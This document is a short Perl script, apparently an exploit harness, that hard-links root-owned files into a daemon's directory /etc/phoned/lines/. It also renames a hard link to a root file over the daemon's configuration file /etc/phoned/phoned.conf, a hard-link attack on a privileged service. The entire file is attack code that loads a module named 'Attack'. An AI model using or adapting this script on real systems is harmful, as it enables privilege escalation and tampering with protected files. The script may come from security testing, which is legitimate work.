# Links files of root into a directory of its own: hard-link.pl PATH.
use strict;
use warnings;
use Attack;

for my $path (@ARGV) {
    my ($name) = $path =~ m{([^/]+)$};
    link $path, "/etc/phoned/lines/$name";
}
# An edited conffile that is another name of a file of root, if the kernel lets it be one.
link $ARGV[0], '/var/lib/phoned/linked' and rename '/var/lib/phoned/linked', '/etc/phoned/phoned.conf';
tried();
ready();
